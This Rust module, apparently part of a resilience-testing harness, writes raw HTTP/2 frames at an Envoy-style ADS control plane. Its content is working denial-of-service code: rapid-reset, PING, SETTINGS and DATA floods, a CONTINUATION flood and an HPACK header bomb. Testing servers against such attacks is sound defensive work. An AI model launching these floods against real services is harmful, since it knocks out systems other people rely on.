//! HTTP/2 frames that a client library would not send, on the plaintext port.

use anyhow::{Result, bail};
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

use super::{Attack, Held, Targets, dial};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;
/// The length of a value that a header bomb stores in the dynamic table, and how often each block refers to it.
const STORED: u8 = 120;
const REFERENCES: usize = 15_000;

pub(super) async fn strike(attack: Attack, to: &Targets, number: usize) -> Result<Option<Held>> {
    let mut stream = dial(to.xds, number).await?;
    stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()).await?;
    match attack {
        Attack::RapidResets => {
            let call = ads_call();
            let pair =
                |n: u32| [frame(HEADERS, END_HEADERS, n, &call), frame(RST_STREAM, 0, n, &[0, 0, 0, 8])].concat();
            write(&mut stream, (0..2_000).map(|n| pair(2 * n + 1))).await?;
        }
        Attack::Pings => write(&mut stream, (0..20_000).map(|_| frame(PING, 0, 0, &[7; 8]))).await?,
        Attack::Settings => write(&mut stream, (0..10_000).map(|_| frame(SETTINGS, 0, 0, &[]))).await?,
        Attack::EmptyData => {
            stream.write_all(&frame(HEADERS, END_HEADERS, 1, &ads_call())).await?;
            write(&mut stream, (0..20_000).map(|_| frame(DATA, 0, 1, &[]))).await?;
        }
        Attack::TinyData => {
            stream.write_all(&frame(HEADERS, END_HEADERS, 1, &ads_call())).await?;
            stream.write_all(&frame(DATA, 0, 1, &[0, 0, 4, 0, 0])).await?;
            write(&mut stream, (0..20_000).map(|_| frame(DATA, 0, 1, &[0]))).await?;
        }
        Attack::WindowUpdates => {
            let pair = |n: u32| {
                [frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]), frame(PRIORITY, 0, 2 * n + 1, &[0, 0, 0, 0, 1])].concat()
            };
            write(&mut stream, (0..10_000).map(pair)).await?;
        }
        Attack::EndlessHeaders => {
            stream.write_all(&frame(HEADERS, 0, 1, &ads_call())).await?;
            write(&mut stream, (0..1_000).map(|_| frame(CONTINUATION, 0, 1, &[0x82; 1_000]))).await?;
        }
        Attack::HeaderBombs => {
            let stored = [&ads_call()[..], &literal(0x40, "x", &"v".repeat(usize::from(STORED)))].concat();
            stream.write_all(&frame(HEADERS, END_HEADERS, 1, &stored)).await?;
            // The newest entry of the dynamic table, one byte each.
            let bomb = [ads_call(), vec![0xbe; REFERENCES]].concat();
            write(&mut stream, (1..20).map(|n| frame(HEADERS, END_HEADERS, 2 * n + 1, &bomb))).await?;
        }
        other => bail!("{other:?} sends no frames of its own"),
    }
    Ok(Some(Box::new(stream)))
}

/// In writes of some 16 KiB, until the server reads no more.
async fn write(stream: &mut TcpStream, frames: impl Iterator<Item = Vec<u8>>) -> Result<()> {
    let mut buffer = Vec::new();
    for frame in frames {
        buffer.extend(frame);
        if buffer.len() > 16 << 10 {
            stream.write_all(&buffer).await?;
            buffer.clear();
        }
    }
    Ok(stream.write_all(&buffer).await?)
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("payloads are short").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The header block of an ADS call: POST and http of the static table, and literals.
fn ads_call() -> Vec<u8> {
    let path = literal(0x04, "", "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources");
    let more = [literal(0, "content-type", "application/grpc"), literal(0, "te", "trailers")].concat();
    [vec![0x83, 0x86], path, literal(0x01, "", "control-plane"), more].concat()
}

/// A literal field of HPACK. Without a name the first byte refers to one of the static table.
fn literal(first: u8, name: &str, value: &str) -> Vec<u8> {
    let text = |text: &str| [&[u8::try_from(text.len()).expect("shorter than 127")], text.as_bytes()].concat();
    let name = if name.is_empty() { Vec::new() } else { text(name) };
    [vec![first], name, text(value)].concat()
}
